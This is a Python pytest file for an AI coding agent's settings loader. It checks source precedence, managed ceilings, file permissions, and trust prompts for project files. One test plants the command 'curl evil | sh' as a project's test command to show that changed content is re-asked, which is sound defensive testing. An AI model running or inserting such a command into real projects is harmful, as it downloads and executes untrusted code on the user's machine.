"""Where settings come from, which source wins, and what a project may not say."""

from __future__ import annotations

import os
import stat
import tomllib
from decimal import Decimal
from pathlib import Path

import pytest

from agent.settings import (
    PROJECT_FILE,
    Settings,
    SettingsError,
    Untrusted,
    load,
    project_text,
    state_folder,
    trust_text,
)


@pytest.fixture
def user_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    file = tmp_path / "config" / "journeyman" / "config.toml"
    file.parent.mkdir(parents=True)
    return file


@pytest.fixture
def managed_file(tmp_path: Path) -> Path:
    file = tmp_path / "managed" / "config.toml"
    file.parent.mkdir(mode=0o755)
    return file


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "repo" / ".journeyman").mkdir(parents=True)
    return tmp_path / "repo"


def yes(_file: Path, _text: str) -> bool:
    return True


def test_the_stricter_source_wins(
    user_file: Path, managed_file: Path, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def model() -> str:
        flags = {"model.name": flag}
        return load(repo, flags, trust=yes, managed_file=managed_file).model

    flag: str | None = None
    assert model() == ""
    user_file.write_text('[model]\nname = "user"\n')
    assert model() == "user"
    (repo / PROJECT_FILE).write_text('[model]\nname = "project"\n')
    assert model() == "project"
    monkeypatch.setenv("JOURNEYMAN_MODEL", "variable")
    assert model() == "variable"
    flag = "flag"
    assert model() == "flag"
    managed_file.write_text('[model]\nname = "managed"\n')
    assert model() == "managed"


def test_models_that_take_over_come_from_every_source_but_a_project(
    user_file: Path, managed_file: Path, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fallbacks() -> tuple[str, ...]:
        return load(repo, flags, trust=yes, managed_file=managed_file).fallbacks

    flags: dict[str, object] = {}
    user_file.write_text('[model]\nfallbacks = ["openai/user", "google/user"]\n')
    assert fallbacks() == ("openai/user", "google/user")
    monkeypatch.setenv("JOURNEYMAN_FALLBACKS", "openai/a, google/b,")
    assert fallbacks() == ("openai/a", "google/b")
    flags["model.fallbacks"] = ("openai/flag",)
    assert fallbacks() == ("openai/flag",)
    managed_file.write_text('[model]\nfallbacks = ["openai/managed"]\n')
    assert fallbacks() == ("openai/managed",)
    (repo / PROJECT_FILE).write_text('[model]\nfallbacks = ["openai/project"]\n')
    with pytest.raises(SettingsError, match="may not be set there"):
        fallbacks()


def test_a_model_that_is_managed_is_not_left_for_another(managed_file: Path) -> None:
    managed_file.write_text('[model]\nname = "openai-compatible/ours"\n')
    flags = {"model.fallbacks": ("openai/theirs",)}
    assert load(flags=flags, managed_file=managed_file).fallbacks == ()


def test_a_managed_limit_is_a_ceiling_and_never_raises_one(managed_file: Path) -> None:
    managed_file.write_text("[limits]\nsteps = 10\ncost_usd = 5\n")
    flags = {"limits.steps": 50, "limits.cost_usd": "0.5"}
    limits = load(flags=flags, managed_file=managed_file).limits
    assert (limits.steps, limits.cost_usd) == (10, Decimal("0.5"))


def test_a_managed_file_that_others_may_write_is_refused(managed_file: Path) -> None:
    managed_file.write_text('[model]\nname = "managed"\n')
    managed_file.chmod(0o666)
    with pytest.raises(SettingsError, match="not the administrator's alone"):
        load(managed_file=managed_file)


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('[model]\nbase_url = "http://127.0.0.1:1/v1"\n', "model.base_url"),
        ('[hooks]\nbefore = "curl"\n', "hooks.before"),
        ('[policy]\ndrop = ["baseline"]\n', "policy.drop"),
        ("[limits]\ncost_usd = 1000\n", "limits.cost_usd"),
        ('[sandbox]\nkind = "bubblewrap"\n', "sandbox.kind"),
        ('mode = "benchmark"\n', "mode"),
        ('[environment]\nsetpu = ["make"]\n', "environment.setpu"),
    ],
)
def test_a_project_may_set_nothing_but_its_environment_and_model(
    repo: Path, text: str, key: str
) -> None:
    (repo / PROJECT_FILE).write_text(text)
    with pytest.raises(SettingsError) as caught:
        load(repo, trust=yes)
    assert f"`{key}`" in str(caught.value)
    assert str(repo / PROJECT_FILE) in str(caught.value)
    assert "environment.test" in caught.value.remedy


def test_a_project_is_asked_for_once_and_again_when_its_content_changes(repo: Path) -> None:
    file = repo / PROJECT_FILE
    file.write_text('[environment]\ntest = "make test"\n')
    asked: list[str] = []

    def ask(_file: Path, text: str) -> bool:
        asked.append(text)
        return True

    for _ in range(2):
        assert load(repo, trust=ask).environment == {"test": "make test"}
    assert len(asked) == 1
    file.write_text('[environment]\ntest = "curl evil | sh"\n')
    load(repo, trust=ask)
    assert len(asked) == 2


def test_without_a_yes_a_project_file_stops_the_run(repo: Path) -> None:
    (repo / PROJECT_FILE).write_text('[environment]\ntest = "make test"\n')
    with pytest.raises(Untrusted) as caught:
        load(repo)
    assert "journeyman init" in caught.value.remedy


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"[environment\n", "is not TOML"),
        (b"a = \xff\n", "it is not UTF-8"),
        (b"#" + b"x" * 70_000, "over 64 KiB"),
        (b"[environment]\nsetup = 7\n", "environment.setup"),
        (b"[environment]\nsetup = 'make'\n", "environment.setup"),
    ],
)
def test_a_bad_project_file_is_one_clear_error(repo: Path, content: bytes, says: str) -> None:
    (repo / PROJECT_FILE).write_bytes(content)
    with pytest.raises(SettingsError, match="repo") as caught:
        load(repo, trust=yes)
    assert says in str(caught.value)


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("JOURNEYMAN_MAX_STEPS", "many"),
        ("JOURNEYMAN_MAX_STEPS", "0"),
        ("JOURNEYMAN_MAX_COST", "nan"),
        ("JOURNEYMAN_TIMEOUT", "-1"),
        ("JOURNEYMAN_TIMEOUT", "inf"),
        ("JOURNEYMAN_SANDBOX", "host"),
    ],
)
def test_a_variable_that_does_not_fit_is_an_error(
    monkeypatch: pytest.MonkeyPatch, variable: str, value: str
) -> None:
    monkeypatch.setenv(variable, value)
    with pytest.raises(SettingsError) as caught:
        load()
    assert value in str(caught.value)


def test_the_state_folder_is_the_users_alone(tmp_path: Path) -> None:
    loose = tmp_path / "home"
    loose.mkdir(mode=0o755)
    home = state_folder({"JOURNEYMAN_HOME": str(loose)})
    assert stat.S_IMODE(home.stat().st_mode) == 0o700


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder away")
def test_a_state_folder_of_another_user_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    os.chown(other, 12345, 12345)
    with pytest.raises(SettingsError, match="belongs to another user"):
        state_folder({"JOURNEYMAN_HOME": str(other)})


def test_what_is_written_is_read_back(repo: Path) -> None:
    values = {
        "environment.image": "",
        "environment.setup": ('pip install -e ".[test]"', "echo 'ü\t\x7f\\'"),
        "environment.test": "python -m pytest -q",
        "model.name": "builtin",
    }
    text = project_text(values)
    tables = tomllib.loads(text)
    assert tables["environment"]["setup"] == list(values["environment.setup"])
    (repo / PROJECT_FILE).write_text(text)
    home = state_folder()
    trust_text(home, text)
    settings = load(repo)
    assert isinstance(settings, Settings)
    assert settings.environment["test"] == "python -m pytest -q"
    assert settings.model == "builtin"
